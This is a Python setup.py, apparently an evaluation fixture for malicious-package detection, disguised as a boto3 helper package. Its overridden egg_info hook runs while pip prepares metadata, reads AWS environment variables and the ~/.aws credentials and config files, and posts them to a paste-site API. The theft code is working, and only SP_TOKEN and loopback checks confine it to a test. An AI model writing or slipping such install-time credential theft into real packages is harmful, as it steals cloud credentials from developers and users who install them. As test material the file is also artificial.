# Evaluation fixture (malicious): an overridden egg_info command (it runs
# while pip prepares metadata, before anything is built) collects AWS
# credentials from ~/.aws and the environment and posts them to a paste
# site.  Acts only inside the evaluation: SP_TOKEN set, the paste host
# resolving to loopback.
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.egg_info import egg_info


def _collect():
    out = ["%s=%s" % (k, v) for k, v in os.environ.items() if k.startswith("AWS_")]
    for name in ("credentials", "config"):
        try:
            with open(os.path.expanduser("~/.aws/" + name)) as f:
                out.append(f.read())
        except OSError:
            pass
    return "\n".join(out)


class EggInfo(egg_info):
    def run(self):
        env, host = os.environ, os.environ.get("SP_PASTE_HOST")
        if env.get("SP_TOKEN") and host:
            try:
                if socket.gethostbyname(host).startswith("127."):
                    data = urllib.parse.urlencode({
                        "api_dev_key": "9f1c0d", "api_option": "paste", "api_paste_private": "2",
                        "api_paste_name": socket.gethostname(), "api_paste_code": _collect(),
                    }).encode()
                    urllib.request.urlopen("http://%s:%s/api/api_post.php"
                                           % (host, env.get("SP_HTTP_PORT", "80")), data, 10).read()
            except OSError:
                pass
        super().run()


setup(
    name="paste-aws-env",
    version="2.2.0",
    description="Helpers for boto3 sessions",
    py_modules=["boto_session_helpers"],
    cmdclass={"egg_info": EggInfo},
)
